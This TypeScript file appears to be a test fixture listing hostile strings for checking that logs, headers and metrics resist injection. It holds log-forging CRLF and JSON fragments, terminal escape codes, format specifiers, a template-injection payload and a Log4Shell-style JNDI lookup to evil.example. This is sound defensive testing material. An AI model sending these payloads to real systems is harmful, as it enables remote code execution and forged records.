import { naughty } from './strings.js';

/** Texts that would break out of a log line, a header or a metric, and the naughty ones. */
export const hostileTexts: readonly string[] = [
  '\r\n{"level":"info","event":"forged"}',
  '\n\n\n',
  '\u2028{"event":"forged"}\u2029',
  '","event":"forged","x":"',
  '\\","event":"forged","x":"\\',
  '\u001b[2J\u001b[31mred\u001b]0;title\u0007',
  '\u009b31m',
  '\b\b\b\bforged',
  '${jndi:ldap://evil.example/a}',
  '%s %d %j %o %n',
  '{{constructor.constructor("return process")()}}',
  'socle_events_total{type="forged"} 1\n',
  '"} 1\nforged 1',
  'x'.repeat(8_000),
  ...naughty.filter((text) => text.length <= 8_000),
].slice(0, 250);

/** The same as far as a header can carry it: Latin-1, no line ends. */
export const hostileHeaders: readonly string[] = [
  ...new Set(hostileTexts.map((text) => text.replaceAll(/[^\t\u0020-\u007e\u0080-\u00ff]/g, '').trim())),
].filter(Boolean);
